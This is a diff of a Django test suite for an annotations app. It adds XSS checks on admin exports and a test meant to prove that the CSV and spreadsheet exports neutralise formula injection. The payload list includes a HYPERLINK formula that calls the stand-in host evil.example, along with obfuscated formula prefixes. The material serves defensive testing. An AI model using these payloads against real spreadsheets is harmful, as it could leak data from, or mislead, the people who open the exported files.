@@ -211,7 +211,7 @@ def _get_form_params(html: str) -> set[str]:
     return names - {"csrfmiddlewaretoken"}
 
 
-def _fetch_everything(client, objects) -> list[tuple[str, object]]:
+def _fetch_everything(client, objects, user) -> list[tuple[str, object]]:
     """GET every page, fragment, admin page and export reachable with these objects."""
     responses: dict[str, object] = {}
     reflected = payload(999, 0)
@@ -270,6 +270,9 @@ def _fetch_everything(client, objects) -> list[tuple[str, object]]:
             from urllib.parse import quote
 
             fetch(f"{url}?q=", f"{url}?q={quote(reflected)}")
+    # The files the admin writes (import-export), in every format each admin offers.
+    for label, response, _format in support.admin_export_downloads(client, user):
+        responses[label] = response
     return list(responses.items())
 
 
@@ -311,7 +314,7 @@ def test_no_page_fragment_or_export_renders_a_payload_unescaped(world, role, req
     placement = world["placement"]
     placed = placement.payloads() + [payload(999, 0)]
     problems, seen = [], set()
-    responses = _fetch_everything(client, world)
+    responses = _fetch_everything(client, world, user)
     export_markers = set()
     for label, response in responses:
         found, markers = _problems(label, response, placed)
@@ -322,6 +325,9 @@ def test_no_page_fragment_or_export_renders_a_payload_unescaped(world, role, req
     assert not problems, "\n".join(dict.fromkeys(problems))
     if any("export" in label for label, _ in responses):
         assert export_markers, "the exports were fetched but showed no payload"
+    if role == "admin":
+        admin_files = [r for label, r in responses if label.startswith("admin export")]
+        assert admin_files and all(r.status_code == 200 for r in admin_files)
 
     # Not vacuous: the pages really showed the payloads, escaped.
     reader = client.get(world["article"].get_absolute_url())
@@ -683,3 +689,87 @@ def test_every_admin_action_runs_without_a_server_error(world, admin_user):
         if response.status_code >= 500:
             errors += _problems(label, response, [])[0]
     assert not errors, "\n".join(errors)
+
+
+# --- Formula injection: the same walk over every CSV and spreadsheet the app writes -----------
+
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("//evil.example/{m}","x")',
+    "+{m}+1",
+    "-{m}-1",
+    "@SUM({m})",
+    "\t={m}",
+    "\r={m}",
+    "\uff1d{m}",
+    "\uff0b{m}",
+    "\uff0d{m}",
+    "\uff20{m}",
+]
+
+
+def _csv_and_spreadsheet_downloads(client, world, user) -> list[tuple[str, object]]:
+    """Every report export and admin export that answers with a CSV or spreadsheet."""
+    found = []
+    entries = [e for e in support.app_url_entries() if "export" in e.name]
+    for entry, url in support.reversible_urls(entries, world)[0]:
+        candidates = [url]
+        if "format" not in entry.kwargs:
+            candidates = [f"{url}?format={name}" for name in support.export_formats()]
+        for candidate in candidates:
+            for scope in ("internal", "published"):
+                separator = "&" if "?" in candidate else "?"
+                labelled = f"{candidate}{separator}scope={scope}"
+                found.append((labelled, client.get(labelled)))
+    found += [(label, r) for label, r, _ in support.admin_export_downloads(client, user)]
+    return [(label, r) for label, r in found if support.spreadsheet_cells(r) is not None]
+
+
+def test_no_csv_or_spreadsheet_cell_starts_a_formula(admin_user):
+    """A formula in every text field of every model; every CSV or spreadsheet the app offers
+    (report exports and each admin export in each format) shows each one as text."""
+    from annotations.exporters._common import FORMULA_STARTS, restore
+
+    placed: dict[str, tuple[str, str]] = {}  # marker → (field, text)
+
+    def formula(label, field_name, max_length):
+        number = len(placed)
+        text = FORMULA_PAYLOADS[number % len(FORMULA_PAYLOADS)].replace("{m}", marker(number, 0))
+        if max_length and len(text) > max_length:
+            text = text[:max_length]
+        placed[marker(number, 0)] = (f"{label}.{field_name}", text)
+        if label == "annotations.Article" and field_name == "body":
+            return text + "\n\nThe ferry timetable changes on Monday, the council said."
+        return text
+
+    world = support.build_world(formula)
+    Claim.objects.update(
+        state=Claim.State.APPROVED, approved_by=admin_user, approved_at=timezone.now()
+    )
+    client = Client(raise_request_exception=False)
+    client.force_login(admin_user)
+    downloads = _csv_and_spreadsheet_downloads(client, world, admin_user)
+    assert any(label.startswith("admin export") for label, _ in downloads)
+    assert any(not label.startswith("admin export") for label, _ in downloads)
+    problems, shown = [], set()
+    for label, response in downloads:
+        for cell in support.spreadsheet_cells(response):
+            if cell.startswith(FORMULA_STARTS):
+                problems.append(f"{label}: a cell starts a formula: {cell[:80]!r}")
+            for found in MARKER.findall(cell):
+                field, text = placed.get(found, ("", ""))
+                if restore(cell) == text:
+                    shown.add(field)
+    assert not problems, "\n".join(dict.fromkeys(problems))
+    # Not vacuous: the payloads were really in the files, whole, as text.
+    must = {
+        "annotations.Source.title",
+        "annotations.Source.publisher",
+        "annotations.Source.notes",
+        "annotations.Source.reliability_rationale",
+        "annotations.Claim.statement",
+        "annotations.Claim.claimant",
+        "annotations.Article.title",
+        "annotations.Citation.quote",
+        "annotations.Citation.note",
+    }
+    assert must <= shown, f"payloads never exported whole: {sorted(must - shown)}"
